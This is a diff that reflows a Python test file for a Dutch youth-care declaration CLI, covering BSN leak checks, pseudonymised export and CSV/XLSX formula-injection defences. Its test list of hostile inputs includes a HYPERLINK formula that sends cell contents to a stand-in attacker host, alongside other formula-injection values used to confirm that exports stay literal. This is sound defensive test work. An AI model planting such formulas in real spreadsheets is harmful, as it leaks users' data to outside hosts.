@@ -36,23 +36,41 @@ KEY = "een-geheime-sleutel-van-de-gemeente"
 INVOCATIONS: dict[str, list[list[str]]] = {
     "import": [[str(SAMPLES), "--aanbieder", "98001202"]],
     "batches": [[]],
-    "validate": [[], ["--details"], ["--opnieuw", "--details"], ["-o", "{tmp}/bevindingen.xlsx"], ["-o", "{tmp}/bevindingen.csv"], ["-o", "{tmp}/bevindingen.json"]],
+    "validate": [
+        [],
+        ["--details"],
+        ["--opnieuw", "--details"],
+        ["-o", "{tmp}/bevindingen.xlsx"],
+        ["-o", "{tmp}/bevindingen.csv"],
+        ["-o", "{tmp}/bevindingen.json"],
+    ],
     "rules": [[]],
-    "report": [[], ["--gemeente", "Huizen"], ["--gemeente", "Huizen", "--by", "aanbieder"], ["-o", "{tmp}/rapport.xlsx"]],
+    "report": [
+        [],
+        ["--gemeente", "Huizen"],
+        ["--gemeente", "Huizen", "--by", "aanbieder"],
+        ["-o", "{tmp}/rapport.xlsx"],
+    ],
     "retour": [["-o", "{tmp}/retour"]],
     "check": [
         [
             str(SAMPLES / "huizen_zorgfirst_2025-03.xlsx"),
             str(SAMPLES / "blaricum_jeugdzorg-de-horizon_2025-03.csv"),
-            "--aanbieder", "98001202",
-            "--contract", str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
-            "--toewijzingen", str(SAMPLES / "toewijzingen_2025.xlsx"),
+            "--aanbieder",
+            "98001202",
+            "--contract",
+            str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
+            "--toewijzingen",
+            str(SAMPLES / "toewijzingen_2025.xlsx"),
         ],
         [
             str(SAMPLES / "huizen_zorgfirst_2025-03.xlsx"),
-            "--contract", str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
-            "--toewijzingen", str(SAMPLES / "toewijzingen_2025.xlsx"),
-            "-o", "{tmp}/check.xlsx",
+            "--contract",
+            str(SAMPLES / "contract_gooi-en-vechtstreek_2025.toml"),
+            "--toewijzingen",
+            str(SAMPLES / "toewijzingen_2025.xlsx"),
+            "-o",
+            "{tmp}/check.xlsx",
         ],
     ],
     "export declaraties": [["-o", "{tmp}/alle.csv"], ["-o", "{tmp}/alle.xlsx"]],
@@ -119,7 +137,9 @@ def file_text(path: Path) -> str:
         return "\n".join(file_text(p) for p in sorted(path.rglob("*")) if p.is_file())
     if path.suffix.lower() == ".xlsx":
         wb = openpyxl.load_workbook(path)
-        return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None)
+        return "\n".join(
+            str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
+        )
     return path.read_text(encoding="utf-8", errors="replace")
 
 
@@ -186,7 +206,10 @@ def test_the_leak_check_can_see_a_bsn(tmp_path, sqlite_url, cli):
 
 def test_error_messages_do_not_show_bsns(tmp_path, sqlite_url, cli):
     """A file whose header is not found: the message lists the most header-like cells, masked."""
-    rows = [["999900006", "45A48", "01-03-2025", "31-03-2025", "3", "Huizen"], ["999900018", "45A48", "01-03-2025", "31-03-2025", "2", "Huizen"]]
+    rows = [
+        ["999900006", "45A48", "01-03-2025", "31-03-2025", "3", "Huizen"],
+        ["999900018", "45A48", "01-03-2025", "31-03-2025", "2", "Huizen"],
+    ]
     src = tmp_path / "noheader.csv"
     with src.open("w", encoding="cp1252", newline="") as fh:
         csv.writer(fh, delimiter=";").writerows(rows)
@@ -253,7 +276,9 @@ def test_pseudonymised_export(sample_store, cli, tmp_path, monkeypatch):
 
     # Another key, other pseudonyms.
     c = tmp_path / "other.csv"
-    assert _export(cli, url, c, "--pseudoniem", env_key="een-andere-sleutel-1234", monkeypatch=monkeypatch).exit_code == 0
+    assert (
+        _export(cli, url, c, "--pseudoniem", env_key="een-andere-sleutel-1234", monkeypatch=monkeypatch).exit_code == 0
+    )
     other = list(csv.DictReader(c.open(encoding="utf-8")))
     assert all(o["bsn_pseudoniem"] != q["bsn_pseudoniem"] for o, q in zip(other, rows) if q["bsn_pseudoniem"])
 
@@ -265,7 +290,9 @@ def test_pseudonym_refusals(sample_store, cli, tmp_path, monkeypatch):
     assert r.exit_code == 2 and "JZCLI_PSEUDONIEM_SLEUTEL" in r.stderr and "--sleutel-bestand" in r.stderr
     r = _export(cli, url, target, "--pseudoniem", env_key="kort", monkeypatch=monkeypatch)
     assert r.exit_code == 2 and "too short" in r.stderr
-    r = _export(cli, url, target, "--pseudoniem", "--sleutel-bestand", tmp_path / "missing.key", monkeypatch=monkeypatch)
+    r = _export(
+        cli, url, target, "--pseudoniem", "--sleutel-bestand", tmp_path / "missing.key", monkeypatch=monkeypatch
+    )
     assert r.exit_code == 3 and "missing.key" in r.stderr
     r = _export(cli, url, target, "--sleutel-bestand", tmp_path / "missing.key", monkeypatch=monkeypatch)
     assert r.exit_code == 2 and "--pseudoniem" in r.stderr
@@ -275,7 +302,16 @@ def test_pseudonym_refusals(sample_store, cli, tmp_path, monkeypatch):
 
 # -------------------------------------------------------------------------- formula injection
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+31612345678", "-x", "@SUM(A1:A9)", "\tx", "\rx", "=1+1", "-2+3"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+31612345678",
+    "-x",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+    "=1+1",
+    "-2+3",
+]
 NUMBERS = [1, -2, 3, 0, 10**12, -7, 8, 9]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
@@ -324,16 +360,45 @@ def test_writers_keep_formula_text_literal(tmp_path):
 
 def _hostile_declaration(path: Path) -> Path:
     header = [
-        "Aanbieder", "Gemeente", "DeclaratieNummer", "ReferentieNummer", "VorigReferentieNummer", "Bsn",
-        "ToewijzingNummer", "ProductCategorie", "ProductCode", "Begindatum", "Einddatum", "GeleverdVolume",
-        "Eenheid", "ProductTarief", "IngediendBedrag", "DebetCredit",
+        "Aanbieder",
+        "Gemeente",
+        "DeclaratieNummer",
+        "ReferentieNummer",
+        "VorigReferentieNummer",
+        "Bsn",
+        "ToewijzingNummer",
+        "ProductCategorie",
+        "ProductCode",
+        "Begindatum",
+        "Einddatum",
+        "GeleverdVolume",
+        "Eenheid",
+        "ProductTarief",
+        "IngediendBedrag",
+        "DebetCredit",
     ]
     rows = [header]
     texts = [HOSTILE[0], "+31612345678", "-x", "@SUM(A1:A9)", "=1+1"]
     for i, text in enumerate(texts):
         rows.append(
-            ["98001101", "0406", text, f"{text[:40]}{i}", None, "999900006", "@T" + str(i), "45", "45A48",
-             dt.date(2025, 3, 1), dt.date(2025, 3, 31), 3, "04", 79.8, 239.4, "D"]
+            [
+                "98001101",
+                "0406",
+                text,
+                f"{text[:40]}{i}",
+                None,
+                "999900006",
+                "@T" + str(i),
+                "45",
+                "45A48",
+                dt.date(2025, 3, 1),
+                dt.date(2025, 3, 31),
+                3,
+                "04",
+                79.8,
+                239.4,
+                "D",
+            ]
         )
     wb = openpyxl.Workbook()
     ws = wb.active
